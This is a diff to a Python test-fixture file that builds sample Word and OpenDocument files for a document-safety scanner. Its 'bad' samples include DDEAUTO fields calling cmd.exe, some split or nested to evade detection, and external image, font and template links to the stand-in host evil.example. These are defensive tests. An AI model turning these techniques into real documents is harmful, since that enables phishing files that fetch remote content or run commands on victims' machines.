@@ -30,6 +30,44 @@ def docx(extra: dict | None = None, main: str = WORD_MAIN) -> bytes:
     return zipped({"[Content_Types].xml": types, "word/document.xml": "<w>Udtalelse</w>", **(extra or {})})
 
 
+WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+
+
+def _word(inside: str) -> str:
+    """A part of a Word document."""
+    return f'<w:document xmlns:w="{WORD_SPACE}"><w:body>Udtalelse{inside}</w:body></w:document>'
+
+
+def _field(*pieces: str) -> str:
+    """A field of Word, its code in as many runs; a piece that is a field lies inside it."""
+    code = "".join(
+        piece if piece.startswith("<") else f"<w:instrText>{piece}</w:instrText>" for piece in pieces
+    )
+    ends = [f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")]
+    return f"{ends[0]}{code}{ends[1]}1{ends[2]}"
+
+
+def _outside(kind: str, mode: str = "External") -> str:
+    """The links of a part of a Word document: one to elsewhere."""
+    return (
+        f'<Relationships><Relationship TargetMode="{mode}" Type="http://x/relationships/{kind}"'
+        ' Target="http://evil.example/x"/></Relationships>'
+    )
+
+
+def harmless() -> dict[str, bytes]:
+    """What looks like fetching and is not: a link to be clicked, the page's number, a table of contents."""
+    links = {"word/_rels/document.xml.rels": _outside("hyperlink")}
+    fields = _field("PAGE") + _field(' TOC \\o "1-3" ', _field("PAGEREF _1"))
+    fields += _field('HYPERLINK "http://kommune.example"')
+    return {
+        "link.docx": docx(links | {"word/document.xml": _word(fields)}),
+        "link.odt": odt(
+            {"content.xml": '<o><a href="http://kommune.example"/><image href="Pictures/1.png"/></o>'}
+        ),
+    }
+
+
 def odt(extra: dict | None = None, manifest: str = "<manifest/>") -> bytes:
     """A small OpenDocument text."""
     made = io.BytesIO()
@@ -130,6 +168,24 @@ def bad() -> dict[str, bytes]:
                 ' Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm"/></Relationships>'
             }
         ),
+        "billede udefra.docx": docx({"word/_rels/document.xml.rels": _outside("image")}),
+        "billede udefra i sidehoved.docx": docx({"word/_rels/header1.xml.rels": _outside("image")}),
+        "skrift udefra.docx": docx({"word/_rels/fontTable.xml.rels": _outside("font")}),
+        "stykke.docx": docx({"word/_rels/document.xml.rels": _outside("aFChunk", mode="Internal")}),
+        "stykke uden rel.docx": docx({"word/document.xml": _word('<w:altChunk id="rId1"/>')}),
+        "dde.docx": docx(
+            {"word/document.xml": _word(_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))}
+        ),
+        "dde i stykker.docx": docx({"word/document.xml": _word(_field(" D", "DE", "AUTO x"))}),
+        "dde lille.docx": docx({"word/document.xml": _word(_field("ddeauto x"))}),
+        "dde simpel.docx": docx({"word/footer1.xml": _word('<w:fldSimple w:instr="DDE x y"/>')}),
+        "dde sat sammen.docx": docx({"word/document.xml": _word(_field(_field("QUOTE 68 68 69")))}),
+        "billedfelt.docx": docx(
+            {"word/document.xml": _word(_field('INCLUDEPICTURE "http://evil.example/x.png"'))}
+        ),
+        "dde.odt": odt({"content.xml": "<o><dde-connection-decl/></o>"}),
+        "billede udefra.odt": odt({"content.xml": '<o><image href="http://evil.example/x.png"/></o>'}),
+        "billede fra delt drev.odt": odt({"styles.xml": '<o><image href="//evil.example/x.png"/></o>'}),
         "makro.odt": odt({"Basic/Standard/Module1.xml": "<x/>"}),
         "laast.odt": odt(manifest='<manifest><encryption-data x="1"/></manifest>'),
         "ark.xlsx": zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}),
